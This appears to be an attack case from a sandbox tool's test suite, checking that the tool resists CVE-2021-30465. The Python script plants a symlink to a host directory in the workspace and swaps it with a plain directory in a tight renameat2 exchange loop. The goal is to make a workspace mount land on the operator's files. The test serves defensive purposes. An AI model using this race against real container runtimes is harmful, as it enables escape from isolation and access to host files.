"""While a cell starts, another one that can write to the directory above its
workspace exchanges it for a link to the operator's files, again and again: one
of both is checked, the other is mounted (CVE-2021-30465).

Blocked by the holder, which follows no link in the path that the engine
resolved, and mounts the directory that it opened.
"""
import ctypes
import os
import sys
import time

WANTS = None
BARE_CANNOT = "what is attacked is how karzer mounts a --workspace"
NEEDS = ("host_file", "workspace")
OPTIONS = ("--workspace", "{workspace}:rw", "--wall", "120s")
MEANWHILE = "shows_while_exchanged"
CHECK = "planted_nothing"

given = dict(word.split("=", 1) for word in sys.argv[1:])
libc = ctypes.CDLL(None, use_errno=True)
os.chdir(given["workspace"])
os.mkdir("shown")
os.symlink(os.path.dirname(given["host_file"]), "link")
open("begun", "w").close()
print("planted: exchanging", flush=True)
while not os.path.exists("enough"):
    libc.renameat2(-100, b"shown", -100, b"link", 2)  # RENAME_EXCHANGE
    time.sleep(0)
